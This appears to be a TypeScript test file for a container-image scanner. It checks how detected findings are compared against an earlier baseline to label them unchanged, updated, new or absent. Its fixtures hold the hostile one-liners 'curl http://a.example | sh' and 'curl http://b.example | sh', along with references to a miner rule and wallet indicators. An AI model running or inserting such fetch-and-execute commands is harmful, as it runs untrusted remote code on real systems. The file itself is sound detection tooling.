import { describe, expect, it } from 'vitest';
import { testFinding } from '../../../testkit/finding.ts';
import type { Finding } from '../../detect/finding.ts';
import { type Baseline, baselineOf, compareWithBaseline } from './baseline.ts';

const NAME = 'registry.example.com/team/app:1.5';

function baseline(findings: readonly Finding[], more: Partial<Baseline> = {}): Baseline {
  return {
    source: 'old.json',
    anyName: false,
    images: [{ reference: 'registry.example.com/team/app:1.4', findings }],
    ...more,
  };
}

function states(now: readonly Finding[], before: readonly Finding[]) {
  const { findings, comparison } = compareWithBaseline(now, NAME, baseline(before));
  return [...findings.map(({ baselineState }) => baselineState), comparison.absent.length];
}

describe('a finding against a baseline', () => {
  const before = testFinding({}, { line: 4, layer: 2, excerpt: 'curl http://a.example | sh' });

  it('is known when only lines, layers and offsets moved', () => {
    const now = testFinding({}, { line: 40, layer: 5, offset: 3, excerpt: 'curl http://a.example  | sh' });
    expect(states([now], [before])).toEqual(['unchanged', 0]);
  });

  it('has changed when it says something else at the same place', () => {
    const now = testFinding({}, { line: 4, layer: 2, excerpt: 'curl http://b.example | sh' });
    expect(states([now], [before])).toEqual(['updated', 0]);
  });

  it('has changed when it was also seen elsewhere, or has another wallet', () => {
    expect(states([testFinding({}, ...before.evidence, { path: '/b' })], [before])).toEqual(['updated', 0]);
    const wallet = { kind: 'wallet', value: 'other', validation: '' } as const;
    const now = { ...before, indicators: [wallet] };
    expect(states([now], [before])).toEqual(['updated', 0]);
  });

  it('has changed when it is worse, and is known when it is milder', () => {
    const mild = { ...before, severity: 'medium', confidence: 'medium' } as const;
    expect(states([before], [mild])).toEqual(['updated', 0]);
    expect(states([{ ...mild, confidence: 'certain' }], [mild])).toEqual(['updated', 0]);
    expect(states([mild], [before])).toEqual(['unchanged', 0]);
  });

  it('is new elsewhere, and what is gone is absent', () => {
    expect(states([testFinding({}, { path: '/other' })], [before])).toEqual(['new', 1]);
  });

  it('is known once for each time that it was there', () => {
    expect(states([before, before], [before])).toEqual(['unchanged', 'new', 0]);
    expect(states([before], [before, { ...before }])).toEqual(['unchanged', 1]);
  });
});

describe('a baseline', () => {
  const finding = testFinding();

  it('counts for images of the same name without tag; all its tags and platforms together', () => {
    const image = { reference: 'registry.example.com/team/app:1', findings: [finding] };
    const other = { reference: 'registry.example.com/team/web:1', findings: [testFinding({ rule: 'x/y' })] };
    const { comparison, notes } = compareWithBaseline([finding], NAME, {
      ...baseline([]),
      images: [image, { ...image, reference: 'registry.example.com/team/app:2' }, other],
    });
    expect(comparison).toMatchObject({ new: 0, unchanged: 1, absent: [] });
    expect(notes).toEqual([]);
  });

  it('knows nothing of images of another name, and says so', () => {
    const { comparison, notes } = compareWithBaseline([finding], 'docker.io/other:1', baseline([finding]));
    expect(comparison).toMatchObject({ new: 1, unchanged: 0, absent: [] });
    expect(notes[0]).toMatch(/holds no image of this name/);
  });

  it('of one image counts for the only image now, whatever it is called, and says so', () => {
    const { comparison, notes } = compareWithBaseline([finding], './b.tar', {
      ...baseline([finding]),
      anyName: true,
    });
    expect(comparison).toMatchObject({ new: 0, unchanged: 1 });
    expect(notes[0]).toMatch(/team\/app:1\.4, which goes by another name/);
  });

  it('hands on what it knew itself, and not what the ignore file hid', () => {
    const made = baselineOf(
      [
        {
          image: { reference: 'a' } as never,
          findings: [finding],
          suppressed: [
            { finding: testFinding({ rule: 'b/b' }), by: 'baseline', source: '', reason: '' },
            { finding: testFinding({ rule: 'c/c' }), by: 'ignore-file', source: '', reason: '' },
            { finding: testFinding({ rule: 'd/d' }), by: 'base-image', source: '', reason: '' },
          ],
        },
      ],
      'o',
      1,
    );
    expect(made.anyName).toBe(true);
    expect(made.images[0]?.findings.map(({ rule }) => rule)).toEqual(['miner/program', 'b/b']);
    expect(made.images[0]?.findings[0]?.evidence).toEqual([{ path: '/usr/bin/x', excerpt: 'x' }]);
  });
});
